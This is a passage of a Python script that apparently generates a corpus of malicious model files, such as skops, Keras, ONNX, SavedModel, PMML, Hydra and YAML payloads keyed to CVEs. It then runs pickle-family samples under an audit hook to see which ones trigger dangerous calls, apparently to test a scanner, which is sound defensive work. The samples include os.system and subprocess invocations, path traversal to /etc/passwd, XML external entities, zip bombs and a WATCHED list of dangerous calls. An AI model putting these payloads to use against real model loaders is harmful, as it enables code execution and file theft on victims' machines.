sample("an array that is opcodes", dumped({"x": np.frombuffer(RAW, dtype="u1").copy()}), "", ".joblib")

# 5. Other formats.


def skops(root):
    root.setdefault("protocol", 2)
    root.setdefault("_skops_version", "0.12.0")
    return zipped({"schema.json": json.dumps(root).encode()})


def node(cls, module, loader, content, **more):
    return {"__class__": cls, "__module__": module, "__loader__": loader, "__id__": 1, "content": content, **more}


sample("skops: a function of os", skops(node("function", "builtins", "FunctionNode", {"module_path": "os", "function": "system"})), "", ".skops")
sample("skops: an operator that is not one", skops({"__class__": "str", "__module__": "builtins", "__loader__": "OperatorFuncNode", "__id__": 1, "attrs": node("tuple", "builtins", "TupleNode", [])} | {"__class__": "call", "__module__": "operator"}), "CVE-2025-54412", ".skops")
sample("skops: a method of os", skops(node("int", "builtins", "MethodNode", {"func": "system", "obj": node("module", "os", "ObjectNode", None)}, ) | {"__class__": "popen", "__module__": "os"}), "CVE-2025-54413", ".skops")
sample("skops: an object of os", skops(node("_wrap_close", "os", "ObjectNode", None)), "CVE-2024-37065", ".skops")
sample("skops: a type of subprocess", skops(node("Popen", "subprocess", "TypeNode", None)), "", ".skops")
sample("skops: a reduce of subprocess", skops({**node("Popen", "subprocess", "ReduceNode", None), "__reduce__": {"args": node("tuple", "builtins", "TupleNode", [])}}), "", ".skops")
sample("skops: a pickle in its place", inner, "CVE-2025-54886", ".skops")


def keras(layer):
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [layer]}, "registered_name": None}
    return zipped({"metadata.json": b'{"keras_version": "3.8.0"}', "config.json": json.dumps(config).encode(), "model.weights.h5": b""})


sample("Keras: Lambda", keras({"module": "keras.layers", "class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": base64.b64encode(b"x").decode()}}}}), "CVE-2024-3660", ".keras")
sample("Keras: a module of its own", keras({"module": "os", "class_name": "system", "config": {"command": "true"}}), "CVE-2025-1550", ".keras")
sample("Keras: a function of os", keras({"module": "keras.layers", "class_name": "Dense", "config": {"activation": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}}}), "CVE-2025-1550", ".keras")
sample("Keras: TFSMLayer", keras({"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "/nowhere/x"}}), "CVE-2026-1462", ".keras")
sample("Keras: TorchModuleWrapper", keras({"module": "keras.src.utils.torch_utils", "class_name": "TorchModuleWrapper", "config": {"module": "gASV"}}), "", ".keras")
sample("Keras: get_file", keras({"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://localhost:1/"}}), "CVE-2025-8747", ".keras")
deep = {"module": "keras.layers", "class_name": "Lambda", "config": {}}
for _ in range(8):
    deep = {"module": "keras", "class_name": "Sequential", "config": {"layers": [deep]}}
sample("Keras: Lambda, deep", keras(deep), "modelscan#340", ".keras")
sample("Keras: a layer's name that climbs out", zipped({"metadata.json": b'{"keras_version": "3.8.0"}', "config.json": b'{"module": "keras", "class_name": "Sequential", "config": {"layers": []}}', "../../assets/x": b"x"}), "CVE-2025-12479", ".keras")


def varint(n):
    out = b""
    while True:
        out += bytes([n & 127 | (128 if n > 127 else 0)])
        n >>= 7
        if not n:
            return out


def field(number, content):
    if isinstance(content, int):
        return varint(number << 3) + varint(content)
    content = content.encode() if isinstance(content, str) else content
    return varint(number << 3 | 2) + varint(len(content)) + content


def onnx(graph):
    return field(1, 8) + field(7, graph) + field(8, field(2, 17))


def external(location):
    return field(1, 4) + field(2, 1) + field(8, "w") + field(13, field(1, "location") + field(2, location)) + field(14, 1)


io_value = field(11, field(1, "x") + field(2, field(1, field(1, 1)))) + field(12, field(1, "y") + field(2, field(1, field(1, 1))))
identity = field(1, field(1, "x") + field(2, "y") + field(4, "Identity"))
sample("ONNX: data outside its folder", onnx(identity + field(2, "g") + field(5, external("../../../../etc/passwd")) + io_value), "CVE-2022-25882", ".onnx")
sample("ONNX: data at an absolute path", onnx(identity + field(2, "g") + field(5, external("/etc/passwd")) + io_value), "CVE-2024-27318", ".onnx")
constant = field(1, field(2, "y") + field(4, "Constant") + field(5, field(1, "value") + field(5, external("../../etc/passwd")) + field(20, 4)))
sample("ONNX: data outside, in an attribute", onnx(constant + field(2, "g") + io_value), "CVE-2026-34446", ".onnx")
branch = field(1, field(2, "b") + field(4, "Constant") + field(5, field(1, "value") + field(5, external("../../etc/passwd")) + field(20, 4))) + field(2, "b")
sample("ONNX: data outside, in a subgraph", onnx(field(1, field(1, "x") + field(2, "y") + field(4, "If") + field(5, field(1, "then_branch") + field(6, branch) + field(20, 5))) + field(2, "g") + io_value), "CVE-2026-34447", ".onnx")
sample("ONNX: sparse data outside", onnx(identity + field(2, "g") + field(15, field(1, external("../x"))) + io_value), "CVE-2026-27489", ".onnx")


def graph_def(*ops):
    return b"".join(field(1, field(1, f"n{i}") + field(2, op)) for i, op in enumerate(ops))


def saved_model(graph):
    return field(1, 1) + field(2, field(1, field(4, "serve") + field(5, "2.16.1")) + field(2, graph))


def function(*ops):
    return field(2, field(1, field(1, field(1, "f")) + b"".join(field(3, field(1, f"n{i}") + field(2, op)) for i, op in enumerate(ops))))


for op in ("ReadFile", "WriteFile", "PyFunc", "EagerPyFunc"):
    sample(f"SavedModel: {op}", saved_model(graph_def("Placeholder", op)), "modelscan", ".pb")
sample("SavedModel: WriteFile in a function", saved_model(graph_def("PartitionedCall") + function("WriteFile")), "", ".pb")
embedded = graph_def("WriteFile")
attribute = field(5, field(1, "value") + field(2, field(8, field(1, 7) + field(8, embedded))))
sample("SavedModel: WriteFile in DatasetFromGraph", saved_model(field(1, field(1, "c") + field(2, "Const") + attribute) + graph_def("DatasetFromGraph")), "", ".pb")
sample("PMML: an external entity", b'<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header copyright="&x;"/></PMML>', "", ".pmml")
sample("PMML: a billion laughs", b'<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>\n<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header copyright="&b;"/></PMML>', "", ".pmml")

# 6. What takes time or memory instead.
sample("a length beyond the end", b"\x80\x04\x8e" + struct.pack("<Q", 2**62), "facts: LONG4, BINBYTES8")
sample("a long number beyond the end", b"\x80\x02\x8b" + struct.pack("<I", 0x7FFFFFFF) + b"\0.", "facts: LONG4, BINBYTES8")
sample("a million marks", b"\x80\x02" + b"(" * 1_000_001, "facts: limits")
sample("a zip bomb", zipped({"data.pkl": b"\x80\x04" + b"N0" * (20 << 20)}, zipfile.ZIP_DEFLATED)[:], "facts: bombs", ".zip")
sample("an array larger than its file", b"\x93NUMPY\x01\x00v\x00" + b"{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }".ljust(117) + b"\n", "facts: limits", ".npy")

# 7. Code that the file carries, run by what pickle does on the way; and names in configurations.
class Extends(list):
    def extend(self, items):
        os.system("true")

    append = extend


class Items(dict):
    def __setitem__(self, key, item):
        os.system("true")


class Hashed:
    def __hash__(self):
        return os.system("true")


class Attributes:
    def __getattr__(self, name):
        os.system("true")
        raise AttributeError(name)


class Read:
    @property
    def value(self):
        return os.system("true")


class Iterated:
    def __iter__(self):
        os.system("true")
        return iter([])


class Registers(type):
    def __init__(cls, *more):
        os.system("true")


def carried(kind):
    """The opcodes by which cloudpickle makes a class of this script."""
    # Without protocol and STOP: protocol 3 has no frames.
    return cloudpickle.dumps(kind, protocol=3)[2:-1]


sample("carried class: extend", cloudpickle.dumps(Extends([1, 2])), "a method that APPENDS calls")
sample("carried class: __setitem__", cloudpickle.dumps(Items(a=1)), "a method that SETITEMS calls")
sample("carried class: __hash__", b"\x80\x04\x8f(" + carried(Hashed) + b")\x81\x90.", "a method that ADDITEMS calls")
sample("carried class: __getattr__", cloudpickle.dumps(Attributes(), protocol=2)[:-1] + b"}X\x01\x00\x00\x00aK\x01sb.", "a method that BUILD calls")
sample("carried class: a property", b"\x80\x04" + name("builtins", "getattr") + carried(Read) + b")\x81" + text("value") + b"\x86R.", "read by getattr")
sample("carried class: __iter__", b"\x80\x04" + name("builtins", "list") + carried(Iterated) + b")\x81\x85R.", "asked for its items")
sample("carried class: a metaclass", cloudpickle.dumps(Registers("Made", (), {"__module__": "__main__"})), "the class is made by code of the file")
sample("dill: extend", dill.dumps(Extends([1, 2])), "a method that APPENDS calls")
sample("cloudpickle: _class_setstate of a library's class", p4(call("cloudpickle.cloudpickle", "_class_setstate", name("sklearn.svm._classes", "SVC"), b"(" + b"}" + text("fit") + b"Ns}t")), "facts: changes the program")
sample("dill: _setitems of a module's dict", p4(call("dill._dill", "_setitems", name("builtins", "__dict__"), b"}" + text("unused") + b"Ns")), "facts: changes the program")
HYDRA = b"name: model\npreprocessor:\n  _target_: os.system\n  command: 'true'\n"
sample("Hydra: _target_ in a NeMo archive", tarred({"model_config.yaml": HYDRA}), "CVE-2025-23304", ".nemo")
sample("Hydra: _target_ in YAML", HYDRA, "CVE-2025-23304", ".yaml")
sample("Hydra: _target_ in JSON", json.dumps({"model": {"_target_": "builtins.exec", "_args_": ["1"]}}).encode(), "CVE-2025-23304", ".json")
header = json.dumps({"__metadata__": {"config": json.dumps({"_target_": "os.system", "command": "true"})}}).encode()
sample("Hydra: _target_ in the metadata of safetensors", struct.pack("<Q", len(header)) + header, "CVE-2025-23304", ".safetensors")
sample("YAML: a tag that calls", b"a: !!python/object/apply:os.system ['true']\n", "CVE-2020-14343", ".yaml")

WATCHED = {
    "os.system", "os.exec", "os.fork", "os.forkpty", "os.posix_spawn", "os.spawn", "os.putenv", "subprocess.Popen",
    "socket.connect", "socket.getaddrinfo", "ctypes.dlopen", "shutil.rmtree", "webbrowser.open", "pty.spawn", "exec",
    "compile", "open", "sqlite3.connect", "glob.glob", "tempfile.mkdtemp", "urllib.Request", "socket.__new__", "import",
    "os.remove", "os.mkdir",
}


def did(content):
    """The first event that one of the ways to load it sets off; in forked processes, each stopped there."""
    for how in ("pickle", "joblib", "numpy"):
        read, write = os.pipe()
        child = os.fork()
        if child == 0:
            os.close(read)
            loaded(content, how, write)
            os._exit(0)
        os.close(write)
        answer = os.read(read, 100).decode()
        os.close(read)
        os.waitpid(child, 0)
        if answer:
            return answer
    return None


def loaded(content, how, write):
    import signal

    path = f"/tmp/brine-sample-{os.getpid()}"
    Path(path).write_bytes(content)
    harmless = (path, "site-packages", "/lib/python", ".pyc", ".py")
    state = {"armed": False}

    def hook(event, arguments):
        if not state["armed"] or event not in WATCHED:
            return
        if event == "import":
            if arguments[0] != "antigravity":
                return
        if event == "open" and any(part in str(arguments[0]) for part in harmless):
            return
        if event in ("compile", "exec") and any(part in str(arguments[-1]) for part in harmless):
            return
        # Removing the file is an event of its own.
        state["armed"] = False
        os.write(write, event.encode())
        os.unlink(path)
        os._exit(0)

    null = os.open(os.devnull, os.O_RDWR)
    for descriptor in (0, 1, 2):
        os.dup2(null, descriptor)
    signal.alarm(20)
    sys.addaudithook(hook)
    state["armed"] = True
    try:
        if how == "pickle":
            pickle.load(io.BytesIO(content))
        elif how == "joblib":
            joblib.load(path)
        else:
            np.load(path, allow_pickle=True)
    except BaseException:
        pass
    state["armed"] = False
    os.unlink(path)


if __name__ == "__main__":
    if len(sys.argv) > 1:
        folder = Path(sys.argv[1])
        folder.mkdir(parents=True, exist_ok=True)
        for i, (label, content, _, suffix) in enumerate(samples):
            safe = "".join(c if c.isalnum() or c in "-._" else "_" for c in label)
            (folder / f"{i:03}-{safe}{suffix}").write_bytes(content)
        print(len(samples), "samples")
        sys.exit()
    report = []
    for label, content, source, suffix in samples:
        event = did(content) if suffix in (".pkl", ".joblib", ".npy", ".npz") or label.startswith("compressed") else None
        if source.startswith("facts"):
            event = None
        packed = base64.b64encode(zlib.compress(content, 9) if len(content) > 2000 else content).decode()
        report.append({
            "name": label, "suffix": suffix, "from": source, "did": event,
            **({"deflated": packed} if len(content) > 2000 else {"content": packed}),
        })
    OUT.write_text("[\n" + ",\n".join(json.dumps(each) for each in report) + "\n]\n")
    print(f"{len(report)} samples; Python was stopped in {sum(each['did'] is not None for each in report)}")
